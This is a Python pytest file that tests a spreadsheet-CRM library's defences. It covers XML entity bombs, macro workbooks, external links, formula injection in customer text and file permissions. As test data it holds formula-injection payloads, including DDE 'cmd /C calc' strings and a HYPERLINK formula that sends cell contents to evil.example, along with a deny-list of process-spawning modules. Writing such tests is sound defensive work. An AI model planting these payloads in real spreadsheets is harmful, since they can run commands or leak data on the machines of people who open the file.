"""Nothing let in: XML bombs defused in every reader, macros never run, external links never followed, formulas
never smuggled in as customer text, files never readable by more people than the workbook itself."""
from __future__ import annotations

import ast
import http.server
import json
import os
import stat
import subprocess
import sys
import textwrap
import threading
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from corpus import hostile
from corpus.jobs import score
from xlcrm.book import open_book
from xlcrm.messages import XlcrmError

ROOT = Path(__file__).resolve().parents[1]

# --- XML bombs: each reader on its own, without our pre-check -----------------------------------------------------

READER = textwrap.dedent("""
    import json, resource, sys
    resource.setrlimit(resource.RLIMIT_AS, (1536 * 1024 ** 2, 1536 * 1024 ** 2))  # an expanded bomb needs ~GBs
    which, paths = sys.argv[1], sys.argv[2:]
    out = {}
    for p in paths:
        try:
            if which == "calamine":
                import python_calamine as pc
                wb = pc.CalamineWorkbook.from_path(p, load_tables=True)
                text = repr([wb.get_sheet_by_name(s).to_python() for s in wb.sheet_names])
            elif which == "openpyxl":
                import openpyxl
                wb = openpyxl.load_workbook(p)
                text = repr([list(ws.iter_rows(values_only=True)) for ws in wb.worksheets])
            else:  # our own package code: relationships and content types, as ooxml reads them
                import zipfile
                from xlcrm.book import ooxml
                with zipfile.ZipFile(p) as z:
                    text = repr([ooxml._rels(z, "_rels/.rels"), ooxml._rels(z, "xl/_rels/workbook.xml.rels"),
                                 ooxml._content_types(z)])
            out[p] = "expanded" if "lollollol" in text or "root:" in text else "not expanded"
        except MemoryError:
            out[p] = "memory"
        except Exception as e:
            out[p] = "refused: " + type(e).__name__
    print(json.dumps(out))
""")


@pytest.fixture(scope="module")
def bombs(tmp_path_factory):
    names = [n for n in hostile.REFUSED if n.startswith(("billion_laughs", "external_entity"))]
    return {n: hostile.build(n, tmp_path_factory.mktemp(n.replace(":", "_").replace("/", "_").replace("[", "")))[0]
            for n in names}


@pytest.mark.parametrize("reader", ["calamine", "openpyxl", "ooxml"])
def test_no_reader_expands_entities(reader, bombs):
    """Billion laughs and external entities in every part: each reader we use refuses or ignores them, within
    1.5 GB — even without check_package, which refuses them all up front (test_hostile)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    r = subprocess.run([sys.executable, "-c", READER, reader, *map(str, bombs.values())], capture_output=True,
                       text=True, env=env, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    verdicts = json.loads(r.stdout)
    assert verdicts and all(v != "expanded" and v != "memory" for v in verdicts.values()), verdicts


def test_the_file_engine_never_loads_a_workbook_into_openpyxl(monkeypatch, tmp_path):
    """Untrusted parts are read by calamine and edited as text after check_package refused any DTD: openpyxl's XML
    loader (whose safety hangs on defusedxml being installed) is never run over a customer's book."""
    assert openpyxl.DEFUSEDXML is True  # defusedxml is a dependency and OPENPYXL_DEFUSEDXML is not switched off
    path = hostile.baseline(tmp_path / "CRM.xlsx")

    def refuse(*a, **k):
        raise AssertionError("openpyxl.load_workbook was called")
    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    monkeypatch.setattr("openpyxl.reader.excel.load_workbook", refuse)
    with open_book(path) as b:
        b.write_table("メモ", pd.DataFrame({"a": [1]}))
        b.update_columns("customers", pd.DataFrame({"customer_id": ["C0001"], "区分": ["見込み"]}), key="customer_id")
        b.journal("t", "t", "t")
        b.save()
    with open_book(path) as b:
        assert b.read_raw("メモ")["a"].tolist() == [1]


@pytest.mark.parametrize("prolog", [
    '<?xml version="1.0"?><!-- ' + "x" * 20000 + ' --><!DOCTYPE a [<!ENTITY a "b">]>',  # hidden after a comment
    '<?xml version="1.0"?>\n<!doctype a [<!ENTITY a "b">]>',                             # lower case
    '<?xml version="1.0"?><?pi x?><!ENTITY a "b">',                                      # bare declaration
])
def test_dtd_is_found_wherever_the_prolog_hides_it(tmp_path, prolog):
    src = hostile.baseline(tmp_path / "src.xlsx")
    bad = hostile.rewrite_parts(src, tmp_path / "bad.xlsx", {"docProps/app.xml": lambda d: (
        prolog + d.decode().split("?>", 1)[-1]).encode()})
    with pytest.raises(XlcrmError) as e:
        open_book(bad)
    assert e.value.key == "book_unsafe"


def test_dtd_in_a_utf16_part_is_found(tmp_path):
    src = hostile.baseline(tmp_path / "src.xlsx")
    xml = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY a "b">]><Properties/>'
    bad = hostile.rewrite_parts(src, tmp_path / "bad.xlsx", {"docProps/app.xml": "\ufeff".encode("utf-16-le")
                                                             + xml.encode("utf-16-le")})
    with pytest.raises(XlcrmError) as e:
        open_book(bad)
    assert e.value.key == "book_unsafe"


def test_a_real_excel_style_prolog_passes(tmp_path):
    """No false alarm: standalone declarations, BOMs and comments before the root are fine."""
    src = hostile.baseline(tmp_path / "src.xlsx")
    ok = hostile.rewrite_parts(src, tmp_path / "ok.xlsx", {"docProps/app.xml": lambda d: (
        '\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<!-- made by hand -->'
        + d.decode().split("?>", 1)[-1]).encode()})
    with open_book(ok) as b:
        assert len(b.read("customers")) == 4


# --- macros: never run headless -----------------------------------------------------------------------------------

def _imports(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    out = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            out |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            out.add(node.module.split(".")[0])
    return out


def test_the_file_engine_cannot_start_anything():
    """What could run a macro — Excel over COM, LibreOffice, a shell — is not even imported by the file engine."""
    for f in ("file.py", "ooxml.py", "base.py", "__init__.py"):
        found = _imports(ROOT / "xlcrm" / "book" / f)
        assert not found & {"subprocess", "xlwings", "win32com", "pythoncom", "uno", "pty", "multiprocessing"}, f


def test_a_macro_workbook_is_processed_without_running_anything(tmp_path, monkeypatch):
    import xlwings
    template = Path(xlwings.__file__).parent / "quickstart_standalone.xlsm"
    path = hostile.write_book(tmp_path / "CRM.xlsm", hostile.standard(), template=template)
    with zipfile.ZipFile(path) as z:
        vba = z.read("xl/vbaProject.bin")
    calls = []

    def forbidden(name):
        def f(*a, **k):
            calls.append(name)
            raise AssertionError(f"{name} called while processing a macro workbook")
        return f
    monkeypatch.setattr(subprocess, "Popen", forbidden("subprocess.Popen"))
    monkeypatch.setattr(os, "system", forbidden("os.system"))
    monkeypatch.setattr(os, "execv", forbidden("os.execv"))
    monkeypatch.setattr(os, "posix_spawn", forbidden("os.posix_spawn"), raising=False)
    monkeypatch.setattr(xlwings, "App", forbidden("xlwings.App"))
    monkeypatch.setattr(xlwings, "Book", forbidden("xlwings.Book"))
    score(path)
    assert calls == []
    with zipfile.ZipFile(path) as z:
        assert z.read("xl/vbaProject.bin") == vba  # carried through untouched, never interpreted
        assert "macroEnabled" in z.read("[Content_Types].xml").decode()


# --- external links: kept, never followed --------------------------------------------------------------------------

class _Counter(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def do_GET(self):  # noqa: N802
        _Counter.hits.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *a):
        pass


def _with_external_link(src: Path, dst: Path, url: str) -> Path:
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="n"><v>42</v></cell></row></sheetData>'
            '</sheetDataSet></externalBook></externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                 f'externalLinkPath" Target="{url}" TargetMode="External"/></Relationships>')

    def wb_xml(d):
        return d.replace(b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/>'
                         b"</externalReferences>")

    def wb_rels(d):
        return d.replace(b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/'
                         b'officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                         b"</Relationships>")

    def ct(d):
        return d.replace(b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="'
                         b'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    return hostile.rewrite_parts(src, dst, {
        "xl/workbook.xml": wb_xml, "xl/_rels/workbook.xml.rels": wb_rels, "[Content_Types].xml": ct,
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})


def test_external_links_are_kept_and_never_followed(tmp_path):
    server = http.server.HTTPServer(("127.0.0.1", 0), _Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/secret/prices.xlsx"
    try:
        def formula(wb):
            wb["顧客"]["N1"], wb["顧客"]["N2"] = "外部参照", "=[1]Sheet1!A1"
        src = hostile.write_book(tmp_path / "src.xlsx", hostile.standard(), after=formula)
        path = _with_external_link(src, tmp_path / "CRM.xlsx", url)
        score(path)
        with open_book(path) as b:
            b.read("customers")
    finally:
        server.shutdown()
    assert _Counter.hits == []
    with zipfile.ZipFile(path) as z:  # the link survives the save, so the staff's formula is not orphaned
        rels = [n for n in z.namelist() if n.startswith("xl/externalLinks/_rels/")]
        assert rels and url in z.read(rels[0]).decode()
    assert openpyxl.load_workbook(path)["顧客"]["N2"].value == "=[1]Sheet1!A1"


# --- formulas in customer text ------------------------------------------------------------------------------------

FORMULA_LIKE = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def test_formula_like_text_is_written_as_text(tmp_path):
    path = hostile.baseline(tmp_path / "CRM.xlsx")
    with open_book(path) as b:
        b.update_columns("customers", pd.DataFrame({"customer_id": ["C0001", "C0002", "C0003", "C0004"] * 2,
                                                    "メモ": FORMULA_LIKE + ["x"]}), key="customer_id")
        b.write_table("メモ", pd.DataFrame({"備考": FORMULA_LIKE}))
        b.save()
    ws = openpyxl.load_workbook(path)["メモ"]
    assert [ws.cell(r, 1).data_type for r in range(2, 2 + len(FORMULA_LIKE))] == ["s"] * len(FORMULA_LIKE)
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in s for s in sheets)  # no formula element anywhere: nothing Excel would evaluate
    with open_book(path) as b:
        assert b.read_raw("メモ")["備考"].tolist() == FORMULA_LIKE


def test_live_engine_keeps_formula_like_text_as_text():
    """Through COM a string is parsed as if typed: the live engine must prefix an apostrophe."""
    from xlcrm.book.live import LiveBook

    class Rng:
        def __init__(self, log, key):
            self.log, self.key = log, key

        def __setattr__(self, k, v):
            if k == "value":
                self.log.append(v)
            object.__setattr__(self, k, v)

    class Sheet:
        def __init__(self, log):
            self.log = log

        def range(self, *a):
            return Rng(self.log, a)

    class XwBook:
        fullname = "CRM.xlsm"

        def __init__(self):
            self.log = []
            self.sheets = {"メモ": Sheet(self.log)}

    xw = XwBook()
    book = LiveBook(xw)
    book._put("メモ", 1, 1, [["備考"]] + [[v] for v in FORMULA_LIKE + ["03-1234", "普通の文"]])
    written = [r[0] for r in xw.log[-1][1:]]
    starts = [w for w, v in zip(written, FORMULA_LIKE) if v[:1] in "=+-@"]
    assert len(starts) == 5 and all(w.startswith("'") for w in starts)
    assert written[-2:] == ["03-1234", "普通の文"]
    assert xw.log[-1][0] == ["備考"]


# --- permissions --------------------------------------------------------------------------------------------------

@pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
@pytest.mark.parametrize("mode", [0o600, 0o640, 0o644])
def test_no_copy_of_the_book_is_ever_more_readable_than_the_book(tmp_path, monkeypatch, mode):
    path = hostile.baseline(tmp_path / "CRM.xlsx")
    os.chmod(path, mode)
    seen = []
    from xlcrm.book import file as file_mod
    real = file_mod._fsync

    def spy(p):  # the temp file, complete and checked, just before it is made durable and swapped in
        for q in Path(p).parent.iterdir():
            if q.name.startswith(".") and q.is_file():
                seen.append(stat.S_IMODE(q.stat().st_mode))
        real(p)
    monkeypatch.setattr(file_mod, "_fsync", spy)
    with open_book(path) as b:
        b.write_table("メモ", pd.DataFrame({"a": [1]}))
        backup = b.save()
    assert seen and all(m & ~mode == 0 for m in seen), [oct(m) for m in seen]
    assert stat.S_IMODE(path.stat().st_mode) == mode
    assert stat.S_IMODE(backup.stat().st_mode) == mode
